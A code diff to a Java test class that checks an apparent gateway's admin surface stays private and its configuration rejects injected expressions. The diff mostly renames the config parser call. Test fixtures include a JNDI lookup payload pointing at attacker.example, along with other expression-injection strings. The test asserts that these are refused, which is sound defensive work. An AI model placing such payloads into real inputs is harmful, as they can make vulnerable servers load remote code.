@@ -10,6 +10,7 @@ import ch.qos.logback.core.read.ListAppender;
 import io.portcullis.config.ConfigException;
 import io.portcullis.config.ConfigLoader;
 import io.portcullis.config.GatewayConfig;
+import io.portcullis.configfile.ConfigFiles;
 import io.portcullis.testkit.AdminProbe;
 import io.portcullis.testkit.Await;
 import io.portcullis.testkit.Closer;
@@ -43,7 +44,7 @@ import org.junit.jupiter.api.extension.RegisterExtension;
 import org.slf4j.LoggerFactory;
 
 /**
- * The admin surface stays private and the configuration stays inert (CONTRACT §2, §6, §7): the
+ * The admin surface stays private and the configuration stays inert (README "Configuration reference", "Endpoints" and "Logs"): the
  * admin listener binds loopback unless told otherwise; the main port never serves metrics or
  * {@code /admin/*}, it routes those paths like any other; configuration strings are never
  * evaluated as expressions; and the access log holds only its nine fields, never a credential.
@@ -79,7 +80,7 @@ class AdminHardeningTest {
 
   private static GatewayConfig parse(JsonObject config) {
     try {
-      return ConfigLoader.parse(config.encode(), name -> null);
+      return ConfigFiles.parse(config.encode(), name -> null);
     } catch (ConfigException e) {
       throw new AssertionError("config invalid:\n" + e.getMessage(), e);
     }
@@ -288,7 +289,7 @@ class AdminHardeningTest {
     List<String> looked = new CopyOnWriteArrayList<>();
     GatewayConfig config;
     try {
-      config = ConfigLoader.parse(json.encode(), name -> {
+      config = ConfigFiles.parse(json.encode(), name -> {
         looked.add(name);
         return null;
       });
@@ -346,7 +347,7 @@ class AdminHardeningTest {
         .put("endpoints", new JsonArray().add("${jndi:ldap://attacker.example/a}").add("${jndi:-http://h:1}"));
     json.put("deadline", new JsonObject().put("header", "${env:X}"));
 
-    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigLoader.parse(json.encode(), env));
+    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), env));
 
     assertThat(e).isNotNull();
     assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
@@ -365,7 +366,7 @@ class AdminHardeningTest {
     json.put("deadline", new JsonObject().put("header", "%{1+1}"));
     json.getJsonObject("upstreams").getJsonObject("backend").put("endpoints", new JsonArray().add(spel));
 
-    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigLoader.parse(json.encode(), n -> null));
+    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), n -> null));
 
     assertThat(e).isNotNull();
     assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
